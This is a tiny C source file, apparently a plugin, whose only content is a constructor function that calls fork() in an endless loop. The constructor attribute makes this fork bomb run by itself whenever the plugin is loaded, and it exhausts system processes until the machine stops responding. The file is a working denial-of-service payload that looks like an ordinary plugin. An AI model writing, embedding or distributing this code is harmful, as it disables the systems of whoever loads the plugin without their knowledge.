/* Starts as many processes as it can. */
#define _GNU_SOURCE
#include <unistd.h>
#include "plugin.h"

__attribute__((constructor)) static void begin(void) { for (;;) fork(); }
